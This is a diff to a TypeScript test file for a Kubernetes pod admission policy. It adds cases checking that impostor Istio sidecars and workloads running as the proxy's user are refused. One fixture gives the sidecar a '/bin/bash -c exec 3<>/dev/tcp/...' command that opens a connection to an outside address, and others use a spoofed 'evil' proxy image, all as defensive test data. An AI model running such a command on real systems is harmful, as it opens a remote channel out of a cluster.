@@ -6,7 +6,10 @@ import { spawnSync } from "child_process";
 import * as fs from "fs";
 import * as os from "os";
 import * as path from "path";
-import { POD_CHECKS, workloadPodPolicy } from "../../../model/mesh/pod-security";
+import { POD_CHECKS, proxyIdentityChecks, workloadPodPolicy } from "../../../model/mesh/pod-security";
+
+const PROXY = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/istio/proxyv2";
+const CHECKS = [...POD_CHECKS, ...proxyIdentityChecks(PROXY)];
 
 interface Case {
   readonly label: string;
@@ -16,8 +19,22 @@ interface Case {
 }
 
 const app = { name: "app", image: "x", securityContext: { runAsNonRoot: true, allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] }, seccompProfile: { type: "RuntimeDefault" } } };
+const sidecar = { name: "istio-proxy", image: `${PROXY}:1.30.4`, args: ["proxy", "sidecar"], securityContext: { privileged: false, runAsUser: 1337, runAsGroup: 1337 } };
 const CASES: Case[] = [
-  { label: "a restricted pod with an injected sidecar and istio-validation", spec: { containers: [app, { name: "istio-proxy", securityContext: { privileged: false, runAsUser: 1337 } }], initContainers: [{ name: "istio-validation", securityContext: { privileged: false } }] } },
+  { label: "a restricted pod with an injected sidecar and istio-validation", spec: { containers: [app, sidecar], initContainers: [{ ...sidecar, name: "istio-validation" }] } },
+  { label: "a pod with a native sidecar (istio-proxy as an init container)", spec: { containers: [app], initContainers: [{ ...sidecar, name: "istio-validation" }, { ...sidecar, restartPolicy: "Always" }] } },
+  { label: "an app running as another user", spec: { securityContext: { runAsUser: 1000, runAsGroup: 3000 }, containers: [{ ...app, securityContext: { ...app.securityContext, runAsUser: 1001 } }, sidecar] } },
+  { label: "the pod as Istio's proxy user", spec: { securityContext: { runAsUser: 1337 }, containers: [app, sidecar] }, refusedBy: /^a pod running as Istio's proxy user/ },
+  { label: "the pod in Istio's proxy group", spec: { securityContext: { runAsGroup: 1337 }, containers: [app, sidecar] }, refusedBy: /^a pod running as Istio's proxy user/ },
+  { label: "an app container as Istio's proxy user", spec: { containers: [{ ...app, securityContext: { runAsUser: 1337 } }, sidecar] }, refusedBy: /^containers other than Istio's/ },
+  { label: "an app container in Istio's proxy group", spec: { containers: [{ ...app, securityContext: { runAsGroup: 1337 } }, sidecar] }, refusedBy: /^containers other than Istio's/ },
+  { label: "an init container as Istio's proxy user", spec: { containers: [app, sidecar], initContainers: [{ name: "setup", securityContext: { runAsUser: 1337 } }] }, refusedBy: /^init containers other than Istio's/ },
+  { label: "a debug container as Istio's proxy user", spec: { containers: [app, sidecar], ephemeralContainers: [{ name: "debug", securityContext: { runAsUser: 1337 } }] }, refusedBy: /^ephemeral containers running as/ },
+  { label: "a debug container named like Istio's", spec: { containers: [app, sidecar], ephemeralContainers: [{ name: "istio-proxy", securityContext: { runAsUser: 1337 } }] }, refusedBy: /^ephemeral containers running as/ },
+  { label: "the pod's own istio-proxy from another image", spec: { containers: [app, { ...sidecar, image: "docker.io/evil/proxyv2:1.30.4" }] }, refusedBy: /^an istio-proxy or istio-validation container/ },
+  { label: "the pod's own istio-proxy with a command", spec: { containers: [app, { ...sidecar, command: ["/bin/bash", "-c", "exec 3<>/dev/tcp/203.0.113.1/443"] }] }, refusedBy: /^an istio-proxy or istio-validation container/ },
+  { label: "an image that only starts like the mirror's repository", spec: { containers: [app, { ...sidecar, image: `${PROXY}-evil:1.30.4` }] }, refusedBy: /^an istio-proxy or istio-validation container/ },
+  { label: "a native sidecar from another image", spec: { containers: [app], initContainers: [{ ...sidecar, image: "docker.io/evil/proxyv2:1.30.4", restartPolicy: "Always" }] }, refusedBy: /^an istio-proxy or istio-validation init container/ },
   { label: "a pod with no security context at all", spec: { containers: [{ name: "a", image: "x" }] } },
   { label: "a pod that says hostNetwork false, with volumes", spec: { hostNetwork: false, hostPID: false, hostIPC: false, containers: [app], volumes: [{ name: "v", emptyDir: {} }, { name: "t", projected: { sources: [] } }] } },
   { label: "hostNetwork", spec: { hostNetwork: true, containers: [app] }, refusedBy: /hostNetwork/ },
@@ -40,21 +57,21 @@ function evaluateAll(items: { id: string; expression: string; object: unknown }[
 describe("the workload pod policy's checks", () => {
   let results = new Map<string, { value: unknown; error: string | null }>();
   beforeAll(() => {
-    results = evaluateAll(CASES.flatMap((c) => POD_CHECKS.map((check, i) => ({ id: `${c.label} #${i}`, expression: check.expression, object: { apiVersion: "v1", kind: "Pod", metadata: { name: "p" }, spec: c.spec } }))));
+    results = evaluateAll(CASES.flatMap((c) => CHECKS.map((check, i) => ({ id: `${c.label} #${i}`, expression: check.expression, object: { apiVersion: "v1", kind: "Pod", metadata: { name: "p" }, spec: c.spec } }))));
   });
 
   it.each(CASES.map((c) => [c.label, c] as const))("%s", (_l, c) => {
-    POD_CHECKS.forEach((check, i) => {
+    CHECKS.forEach((check, i) => {
       const r = results.get(`${c.label} #${i}`)!;
       expect(r.error).toBeNull();
       // A check holds for a pod it admits; exactly the named check refuses.
       expect(r.value).toBe(!(c.refusedBy && c.refusedBy.test(check.message)));
     });
-    if (c.refusedBy) expect(POD_CHECKS.filter((check) => c.refusedBy!.test(check.message))).toHaveLength(1);
+    if (c.refusedBy) expect(CHECKS.filter((check) => c.refusedBy!.test(check.message))).toHaveLength(1);
   });
 
   it("are the policy's validations, each refusing as Forbidden", () => {
-    const [policy] = workloadPodPolicy(["payments"]);
-    expect(policy.spec!.validations).toEqual(POD_CHECKS.map((c) => ({ expression: c.expression, message: c.message, reason: "Forbidden" })));
+    const [policy] = workloadPodPolicy(["payments"], PROXY);
+    expect(policy.spec!.validations).toEqual(CHECKS.map((c) => ({ expression: c.expression, message: c.message, reason: "Forbidden" })));
   });
 });
